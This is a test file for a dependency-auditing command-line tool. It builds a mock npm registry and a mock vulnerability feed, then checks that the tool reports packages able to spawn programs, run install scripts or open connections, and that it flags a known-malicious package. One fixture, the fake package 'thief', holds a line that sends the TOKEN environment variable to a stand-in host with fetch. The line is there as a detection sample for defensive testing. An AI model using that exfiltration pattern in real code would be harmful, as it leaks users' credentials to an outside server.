import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CapabilityReport } from '../../src/engine/model/capability-report.ts'
import { dataFolder, runAssay } from '../support/assay-process.ts'
import { type NpmStandIn, startNpmStandIn } from '../support/npm-stand-in.ts'
import { writeOsvFeed } from '../support/osv-feed.ts'
import { workingTree } from '../support/working-tree.ts'

const spawns = "import { spawn } from 'node:child_process'\nexport const run = (file) => spawn(file)\n"
const data = dataFolder()
const feed = writeOsvFeed({
  npm: [
    {
      schema_version: '1.7.3',
      id: 'MAL-2025-1',
      modified: '2025-01-14T10:12:15Z',
      summary: 'Malicious code in thief',
      affected: [{ package: { ecosystem: 'npm', name: 'thief' }, versions: ['1.0.0'] }],
    },
  ],
})
let npm: NpmStandIn
let settings: Record<string, string>

beforeAll(async () => {
  npm = await startNpmStandIn({
    'runner@1.0.0': { dependencies: { starter: '1.0.0' }, files: { 'index.js': "import 'starter'\n" } },
    'runner@2.0.0': {
      dependencies: { starter: '2.0.0', sender: '1.0.0' },
      files: { 'index.js': "import 'starter'\nimport 'sender'\n" },
    },
    'starter@1.0.0': { type: 'module', files: { 'lib/start.js': spawns, 'test/a.js': 'eval(text)\n' } },
    'starter@2.0.0': {
      scripts: { postinstall: 'node install.js' },
      files: { 'lib/start.js': 'export const exec = (text) => /a/.exec(text)\n', 'install.js': '' },
    },
    'sender@1.0.0': { files: { 'index.js': 'export const send = (data) => fetch("https://a.example", data)\n' } },
    'infected@1.0.0': { dependencies: { thief: '1.0.0' } },
    'thief@1.0.0': { files: { 'index.js': 'fetch("https://a.example/" + process.env.TOKEN)\n' } },
    'broken@1.0.0': { dependencies: { torn: '1.0.0' } },
    'torn@1.0.0': { tarball: Buffer.from('not an archive') },
  })
  settings = {
    ASSAY_DATA_DIR: data.path,
    npm_config_registry: npm.url,
    ASSAY_ALLOW_NETWORKS: 'upstream=127.0.0.1/32',
    OSV_URL: feed.url,
  }
})
afterAll(async () => {
  await npm[Symbol.asyncDispose]()
  data.remove()
  feed.remove()
})

const linesOf = (text: string) => text.split('\n').map((line) => line.trim().replaceAll(/ {2,}/g, '  '))

describe('assay capabilities', { timeout: 120_000 }, () => {
  it('shows the path to each package that can do something', async () => {
    const { code, out } = await runAssay(['capabilities', 'runner@1.0.0'], settings)
    expect(linesOf(out)).toEqual([
      '',
      'Can run programs  runner 1.0.0 → starter 1.0.0  lib/start.js:2 (child_process.spawn)',
      '',
      'runner@1.0.0: read 2 of 2 packages',
      '',
      '',
    ])
    expect(code).toBe(0)
  })

  it('shows what an update changes', async () => {
    const { code, out } = await runAssay(['capabilities', 'runner@2.0.0', '--compare', 'runner@1.0.0'], settings)
    expect(linesOf(out).slice(1, -3)).toEqual([
      'New: can run install scripts  runner 2.0.0 → starter 2.0.0  package.json:1 (postinstall); not in 1.0.0',
      'No longer run programs  runner 1.0.0 → starter 1.0.0  lib/start.js:2 (child_process.spawn); gone in 2.0.0',
      'New: can open connections  runner 2.0.0 → sender 1.0.0  index.js:1 (fetch); new package',
      '',
    ])
    expect(code).toBe(0)
  })

  it('lists malicious packages first, and fails', async () => {
    using folder = workingTree({ 'package.json': '{"name":"shop","dependencies":{"infected":"1.0.0"}}' })
    const { code, out } = await runAssay(['capabilities', folder.path], settings)
    const [, first = '', , next = ''] = linesOf(out)
    expect(first).toMatch(/^Malicious package {2}.*infected 1\.0\.0 → thief 1\.0\.0 {2}MAL-2025-1$/)
    expect(next).toMatch(/^Can open connections {2}.*infected 1\.0\.0 → thief 1\.0\.0 {2}index\.js:1 \(fetch\)$/)
    expect(code).toBe(1)
  })

  it('names what it could not read', async () => {
    const { code, out } = await runAssay(['capabilities', '--format', 'json', 'broken@1.0.0'], settings)
    const { installation } = CapabilityReport.parse(JSON.parse(out))
    expect(installation.notRead.map(({ name, version }) => `${name} ${version}`)).toEqual(['torn 1.0.0'])
    expect([code, installation.read]).toEqual([3, 1])
  })

  it('explains a target that does not exist', async () => {
    const { code, out, err } = await runAssay(['capabilities', 'absent@1.0.0'], settings)
    expect([code, out]).toEqual([3, ''])
    expect(err).toContain('absent')
    expect((await runAssay(['capabilities'], settings)).code).toBe(2)
    expect((await runAssay(['capabilities', 'a', 'b'], settings)).code).toBe(2)
  })
})
